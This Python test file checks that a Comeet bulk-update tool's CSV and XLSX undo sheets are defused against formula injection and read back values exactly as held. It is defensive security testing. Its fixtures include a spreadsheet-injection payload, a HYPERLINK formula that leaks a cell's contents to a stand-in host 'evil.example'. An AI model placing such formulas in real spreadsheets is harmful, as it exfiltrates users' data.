"""The undo sheet is formula-safe and read back as written (issue 16, models.is_undo_sheet).

Comeet's values are often what candidates typed themselves: a name `=HYPERLINK(...)` in a
CSV undo sheet opened in Excel would be a formula. So the CSV undo sheet is defused as a
CSV report is, the XLSX one holds text, and the loader reads an undo sheet's cells back as
first typed: running either puts back exactly what Comeet held, `+972...` and `'=x` too.
"""

from __future__ import annotations

import copy
import csv
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import bulk_update as bu
from bulk_update.backup import BackedUpRow, BackupRecord
from bulk_update.models import (
    NOT_RESTORABLE,
    REPORT_COLUMNS,
    is_undo_sheet,
    reads_back_as_typed,
    undo_headers,
)
from bulk_update.reader.cells import strip_cell
from bulk_update.sandbox import SandboxState, ThreadedSandbox
from bulk_update.undo import undo_bundle, write_undo_sheet

from .conftest import run_cli
from .test_resume import CREDS

#: What Comeet held: every value starts with a character a spreadsheet reads as a formula.
HELD: dict[str, dict[str, Any]] = {
    "FS.1": {
        "uid": "FS.1",
        "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Dana")',
        "last_name": "'=x",
        "phone": "+972-3-555-0100",
        "email": "dana@old.example",
    },
    "FS.2": {
        "uid": "FS.2",
        "first_name": "@dana",
        "last_name": "-Levi",
        "phone": "+1 212 555 0100",
        "email": "=avi@old.example",
    },
}
FIELDS = ("first_name", "last_name", "phone", "email")
NEW = {"first_name": "Dina", "last_name": "Kahn", "phone": "03-555-0999"}


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture
def sandbox() -> Iterator[ThreadedSandbox]:
    """The sandbox on 127.0.0.1, holding HELD."""
    state = SandboxState()
    state.candidates.update(copy.deepcopy(HELD))
    with ThreadedSandbox(state) as sb:
        yield sb


def backed_up(tmp_path: Path, sb: ThreadedSandbox, suffix: str) -> Path:
    """Change every field of HELD with --backup; the undo sheet."""
    header = ["uid", "First Name", "Last Name", "Phone", "Email"]
    rows = [[uid, *NEW.values(), f"new{n}@example.com"] for n, uid in enumerate(HELD)]
    sheet = write_csv(tmp_path / "people.csv", [header, *rows])
    undo = tmp_path / f"people.undo{suffix}"
    args = ("--base-url", sb.base_url, "--rate", "1000/1", "--backup", "--undo-sheet", undo)
    res = run_cli("run", sheet, *args, env=env(tmp_path), cwd=tmp_path)
    assert res.code == 0, res.err
    assert sb.snapshot().candidates["FS.1"]["first_name"] == "Dina"
    return undo


def env(tmp_path: Path) -> dict[str, str]:
    return {**CREDS, "XDG_STATE_HOME": str(tmp_path / "state")}


def assert_restored(tmp_path: Path, undo: Path, sb: ThreadedSandbox) -> None:
    """Run `undo`: each field sent as Comeet held it, and Comeet holds exactly HELD again."""
    args = ("--base-url", sb.base_url, "--rate", "1000/1", "--report", tmp_path / "out.csv")
    res = run_cli("run", undo, *args, env=env(tmp_path), cwd=tmp_path)
    assert res.code == 0, res.err + res.out
    snapshot = sb.snapshot()
    sent = dict(snapshot.applied[len(HELD) :])
    for uid, held in HELD.items():
        assert {f: sent[uid][f] for f in FIELDS} == {f: held[f] for f in FIELDS}, uid
        assert {f: snapshot.candidates[uid][f] for f in FIELDS} == {f: held[f] for f in FIELDS}, uid


def test_a_csv_undo_sheet_is_defused_and_puts_back_what_comeet_held(
    tmp_path: Path, sandbox: ThreadedSandbox
) -> None:
    undo = backed_up(tmp_path, sandbox, ".csv")
    with undo.open(encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    assert lines[0] == undo_headers(FIELDS)
    raw = {line[0]: dict(zip(lines[0], line, strict=True)) for line in lines[1:]}
    assert raw["FS.1"]["first_name"] == "'" + HELD["FS.1"]["first_name"]
    assert raw["FS.1"]["last_name"] == "''=x"  # one apostrophe more, taken off on input
    assert raw["FS.1"]["phone"] == "'+972-3-555-0100"
    assert raw["FS.2"]["first_name"] == "'@dana"
    assert raw["FS.2"]["last_name"] == "'-Levi"
    assert raw["FS.2"]["email"] == "'=avi@old.example"
    # Nothing a spreadsheet program would take for a formula, anywhere in the file.
    assert not [cell for line in lines for cell in line if cell[:1] in tuple("=+-@\t\r")]

    # The dry run steps aside from the column-at-a-time engine, and shows the values held.
    preview = bu.dry_run(undo, report_path=tmp_path / "preview.csv")
    assert not preview.columnar
    bodies = {p.uid: {f: p.body[f] for f in FIELDS} for p in preview.patches}
    assert bodies == {uid: {f: held[f] for f in FIELDS} for uid, held in HELD.items()}
    assert_restored(tmp_path, undo, sandbox)


def test_an_xlsx_undo_sheet_holds_text_and_puts_back_what_comeet_held(
    tmp_path: Path, sandbox: ThreadedSandbox
) -> None:
    undo = backed_up(tmp_path, sandbox, ".xlsx")
    lines = list(load_workbook(undo).worksheets[0].iter_rows())
    assert [c.value for c in lines[0]] == undo_headers(FIELDS)
    assert all(c.data_type == "s" for line in lines for c in line if c.value is not None)
    cells = {line[0].value: dict(zip(FIELDS, line[1:], strict=False)) for line in lines[1:]}
    assert cells["FS.1"]["first_name"].value == HELD["FS.1"]["first_name"]  # text, as is
    assert cells["FS.1"]["last_name"].value == "''=x"  # as a report: one taken off on input
    assert cells["FS.1"]["phone"].value == "+972-3-555-0100"
    assert cells["FS.2"]["email"].value == "=avi@old.example"
    assert_restored(tmp_path, undo, sandbox)


@pytest.mark.parametrize(
    ("header", "kept"),
    [
        (["uid", "First Name", NOT_RESTORABLE], False),  # an undo sheet: read back as written
        (["uid", "First Name", "not restorable"], True),  # not as undo.py writes it
        (["uid", NOT_RESTORABLE, "First Name"], True),  # not last
        (["First Name", "uid", NOT_RESTORABLE], True),  # uid not first
    ],
)
def test_only_a_sheet_laid_out_as_an_undo_sheet_loses_its_apostrophes(
    tmp_path: Path, header: list[str], kept: bool
) -> None:
    cells = {"uid": "FS.1", "First Name": "'=x"}
    line = [cells.get(h, "") for h in header]
    sheet = write_csv(tmp_path / "s.csv", [header, line])
    loaded = bu.load(sheet)
    value = loaded.rows[0].values[header.index("First Name")]
    assert value == ("'=x" if kept else "=x")
    assert is_undo_sheet(header) is not kept
    preview = bu.dry_run(sheet, report_path=tmp_path / "preview.csv")
    assert preview.patches[0].body["first_name"] == value


def test_a_sheet_read_back_as_typed_is_a_results_sheet_or_an_undo_sheet() -> None:
    assert reads_back_as_typed([*REPORT_COLUMNS, "uid", "First Name"])
    assert reads_back_as_typed(undo_headers(["first_name"]))
    assert reads_back_as_typed(undo_headers([]))
    assert not reads_back_as_typed(["uid", "first_name"])
    assert not reads_back_as_typed([NOT_RESTORABLE])
    assert not reads_back_as_typed(["uid", "first_name", f"{NOT_RESTORABLE} "])


#: Text a cell can hold as it is (no control characters: XLSX cannot hold most of them, and
#: a reader strips white space at a cell's edges), often led by apostrophes and formula starts.
TEXT = st.builds(
    str.__add__,
    st.text(st.sampled_from("'=+-@"), max_size=4),
    st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=8),
).filter(lambda v: v != "" and strip_cell(v) == v)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=TEXT)
@example(value="'=x").via("an apostrophe before a formula start")
@example(value="+972-3-555-0100").via("a phone")
def test_any_value_comes_back_through_the_sheet_reader_as_comeet_held_it(value: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        for suffix in (".csv", ".xlsx"):
            undo = Path(folder) / f"u{suffix}"
            row = BackedUpRow(2, "FS.1", {"first_name": value}, {}, "updated")
            write_undo_sheet(BackupRecord(undo, Path(folder) / "r", rows=[row]), undo)
            loaded = bu.load(undo)
            assert loaded.headers == tuple(undo_headers(["first_name"]))
            assert loaded.rows[0].values[1] == value, suffix


# --- the undo sheet as one download (undo.undo_bundle) -----------------------------------------


def _sheet_with_a_resume(folder: Path) -> Path:
    """An undo sheet putting back one resume; its resumes' folder also holds a file of
    another run that the sheet does not name."""
    kept = folder / "downloads" / "cv.pdf"  # as a backup downloads it, by its name
    kept.parent.mkdir()
    kept.write_bytes(b"%PDF the old cv")
    before = {"first_name": "Dana", "resume": {"name": "cv.pdf", "file": str(kept)}}
    rows = [BackedUpRow(2, "AE.1", before, {})]
    undo = folder / "s.undo.xlsx"
    record = BackupRecord(undo, folder / "s.undo resumes" / "run 3", "run 3", rows=rows)
    write_undo_sheet(record, undo)
    other = folder / "s.undo resumes" / "run 2" / "row 2" / "someone-else.pdf"
    other.parent.mkdir(parents=True)
    other.write_bytes(b"%PDF not this run's")
    return undo


def test_the_undo_sheets_zip_holds_it_and_the_resumes_it_names_only(tmp_path: Path) -> None:
    undo = _sheet_with_a_resume(tmp_path)
    bundle = undo_bundle(undo, "people.undo.xlsx")
    assert bundle == tmp_path / "s.undo.zip"
    with zipfile.ZipFile(bundle) as zf:
        assert zf.namelist() == ["people.undo.xlsx", "s.undo resumes/run 3/row 2/cv.pdf"]
        assert zf.read("s.undo resumes/run 3/row 2/cv.pdf") == b"%PDF the old cv"
    assert undo_bundle(undo, "people.undo.xlsx") == bundle  # made once
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_a_zip_that_fails_half_way_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    undo = _sheet_with_a_resume(tmp_path)

    def full_disk(*args: Any, **kwargs: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(zipfile.ZipFile, "write", full_disk)
    with pytest.raises(OSError, match="No space left"):
        undo_bundle(undo, "people.undo.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "downloads",
        "s.undo resumes",
        "s.undo.xlsx",
    ]
